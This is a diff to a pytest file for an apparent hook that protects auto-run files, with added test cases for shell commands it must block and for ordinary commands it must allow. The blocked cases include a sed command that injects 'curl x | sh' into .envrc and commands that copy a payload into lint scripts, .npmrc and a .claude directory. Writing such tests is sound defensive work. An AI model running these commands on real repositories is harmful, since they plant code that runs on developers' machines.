@@ -81,6 +81,10 @@ def answer(reply: dict | None) -> tuple[str, str] | None:
         ("echo 'import os' > sitecustomize.py", "sitecustomize.py"),
         ("mkdir -p env/lib && echo 'import os' > env/lib/evil.pth", "env/lib/evil.pth"),
         ("mkdir -p sub/.noetic && echo '[gate]' > sub/.noetic/config.toml", "sub/.noetic"),
+        ("cp payload -t scripts && mv scripts/payload scripts/lint.sh", "scripts/lint.sh"),
+        ("touch .envrc && sed -i 's/^/curl x | sh; /' .envrc", ".envrc"),
+        ("dd if=payload of=.npmrc", ".npmrc"),
+        ("mkdir -p .claude && cp payload .claude/", ".claude/payload"),
     ],
 )
 @pytest.mark.subprocess
@@ -133,7 +137,16 @@ def test_a_file_a_linked_hook_runs_is_protected_too(repo):
 
 @pytest.mark.subprocess
 def test_ordinary_work_gets_no_answer(repo):
-    for command in ("echo x > README.md", "ls -la .claude .git", "cat scripts/lint.sh", "pytest"):
+    for command in (
+        "echo x > README.md",
+        "ls -la .claude .git",
+        "cat scripts/lint.sh",
+        "pytest",
+        "git add .claude/settings.json && git diff -- .envrc",
+        "find . -name '*.pth'",
+        "cp scripts/lint.sh /dev/null && cp .mcp.json backup.json",
+        "sed 's/a/b/' .envrc > envrc.txt",
+    ):
         assert hook(repo, "Bash", command=command) is None, command
     assert hook(repo, "Write", file_path=str(repo / "src" / "a.py"), content="x") is None
 
